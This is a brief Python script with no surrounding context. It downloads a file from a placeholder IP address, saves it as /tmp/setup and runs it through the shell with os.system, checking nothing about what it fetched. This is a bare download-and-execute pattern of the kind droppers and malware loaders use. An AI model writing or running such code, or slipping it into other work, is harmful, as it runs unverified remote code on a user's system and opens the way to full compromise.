import os
import urllib.request

page = urllib.request.urlopen("http://192.0.2.7/setup").read()
with open("/tmp/setup", "wb") as target:
    target.write(page)
os.system("sh /tmp/setup")
